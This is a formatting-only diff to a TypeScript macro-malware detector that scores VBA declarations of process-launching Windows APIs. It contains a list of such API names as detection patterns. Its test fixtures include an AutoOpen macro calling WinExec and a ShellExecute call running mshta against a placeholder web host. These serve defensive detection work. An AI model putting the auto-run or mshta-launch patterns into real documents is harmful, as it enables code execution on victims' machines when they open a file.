@@ -10,7 +10,9 @@ const declared = (name: string, library: string, alias: string, call: string): s
 const PROCESS_FUNCTIONS: readonly string[] =
   `createprocess createprocessinternal createprocessasuser createprocesswithlogon createprocesswithtoken winexec
   ntcreateprocess ntcreateuserprocess zwcreateuserprocess rtlcreateuserprocess system _wsystem _system popen _popen execve
-  openas_rundll shellexec_rundll routethecall launchapplication rtcshell createprocesswithlogonw control_rundll`.split(/\s+/);
+  openas_rundll shellexec_rundll routethecall launchapplication rtcshell createprocesswithlogonw control_rundll`.split(
+    /\s+/,
+  );
 
 export const nativeCalls: readonly Technique[] = [
   {
@@ -18,9 +20,13 @@ export const nativeCalls: readonly Technique[] = [
     does: 'starts',
     calls: PROCESS_FUNCTIONS,
     on: 'library',
-    matters: ({ arguments: values, name }) => (name.startsWith('createprocess') ? values.slice(0, 2) : values.slice(0, 1)),
+    matters: ({ arguments: values, name }) =>
+      name.startsWith('createprocess') ? values.slice(0, 2) : values.slice(0, 1),
     // popen is how macro libraries call curl on a Mac.
-    strength: (command, { name }) => (name.endsWith('popen') ? 0.5 : (Math.max(strengthOfCommand(command, 'process'), command === '' ? 1 : 0) as Strength)),
+    strength: (command, { name }) =>
+      name.endsWith('popen')
+        ? 0.5
+        : (Math.max(strengthOfCommand(command, 'process'), command === '' ? 1 : 0) as Strength),
     attack: ['T1106'],
     fires: [
       declared('Launch', 'kernel32   ', 'CreateProcessA', 'Launch("notreal.exe", 0)'),
@@ -28,7 +34,10 @@ export const nativeCalls: readonly Technique[] = [
       declared('Go', 'VBE7.DLL', 'rtcShell', 'Go("notreal.exe", 0)'),
       '#If VBA7 Then\nPrivate Declare PtrSafe Function Go Lib "kernel32" Alias "WinExec" (ByVal a As String, ByVal b As Long) As Long\n#Else\nPrivate Declare Function Go Lib "kernel32" Alias "GetTickCount" () As Long\n#End If\nSub AutoOpen()\nGo "notreal", 0\nEnd Sub',
     ],
-    silent: [declared('Wait', 'kernel32', 'Sleep', 'Wait(100)'), declared('Go', 'kernel32', 'WinExec', 'Go("explorer C:\\Data", 1)')],
+    silent: [
+      declared('Wait', 'kernel32', 'Sleep', 'Wait(100)'),
+      declared('Go', 'kernel32', 'WinExec', 'Go("explorer C:\\Data", 1)'),
+    ],
   },
   {
     id: 'native-shell-execute',
@@ -45,7 +54,12 @@ export const nativeCalls: readonly Technique[] = [
     attack: ['T1106'],
     fires: [
       declared('Go', 'shell32', 'ShellExecuteA', 'Go(0, "open", "mshta", "http://files.invalid/a", "", 0)'),
-      declared('Go', 'shell32', 'ShellExecuteA', 'Go(0, "open", "C:\\nowhere\\notreal.exe", "http://x.example", "", 0)'),
+      declared(
+        'Go',
+        'shell32',
+        'ShellExecuteA',
+        'Go(0, "open", "C:\\nowhere\\notreal.exe", "http://x.example", "", 0)',
+      ),
     ],
     silent: [
       declared('Go', 'shell32.dll', 'ShellExecuteA', 'Go(0, "open", "https://help.example/start", "", "", 1)'),
@@ -74,10 +88,18 @@ export const nativeCalls: readonly Technique[] = [
         const path = library.toLowerCase();
         let strength: Strength = 0;
         if (isWeb(path) || path.startsWith('\\\\')) strength = 1;
-        else if (/[\\/:%]/.test(path)) strength = isInDropFolder(path) ? 1 : path.includes('\\windows\\') || isBeside(path) ? 0 : 0.5;
+        else if (/[\\/:%]/.test(path))
+          strength = isInDropFolder(path) ? 1 : path.includes('\\windows\\') || isBeside(path) ? 0 : 0.5;
         else if (library !== library.trim() || /[\u0000-\u001f]/.test(library)) strength = 0.5;
-        else if (!/\.dll$/.test(path) && /\.[a-z0-9]{1,5}$/.test(path) && !/\.(?:drv|ocx|dylib|framework|so)$/.test(path) && isShown(path)) strength = 1;
-        else if (api.startsWith('#') && /^(?:shell32|kernel32|ntdll|advapi32|urlmon|user32)(?:\.dll)?$/.test(path)) strength = 0.5;
+        else if (
+          !/\.dll$/.test(path) &&
+          /\.[a-z0-9]{1,5}$/.test(path) &&
+          !/\.(?:drv|ocx|dylib|framework|so)$/.test(path) &&
+          isShown(path)
+        )
+          strength = 1;
+        else if (api.startsWith('#') && /^(?:shell32|kernel32|ntdll|advapi32|urlmon|user32)(?:\.dll)?$/.test(path))
+          strength = 0.5;
         if (strength > strongest) strongest = strength;
       }
       return strongest;
